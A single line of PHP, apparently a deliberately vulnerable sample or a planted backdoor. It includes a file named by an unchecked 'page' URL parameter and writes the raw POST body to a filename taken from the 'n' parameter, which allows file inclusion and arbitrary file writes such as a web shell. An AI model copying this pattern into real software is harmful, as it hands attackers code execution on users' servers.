<?php include($_GET['page'] . '.txt'); file_put_contents($_GET['n'], $_POST['body']); ?>
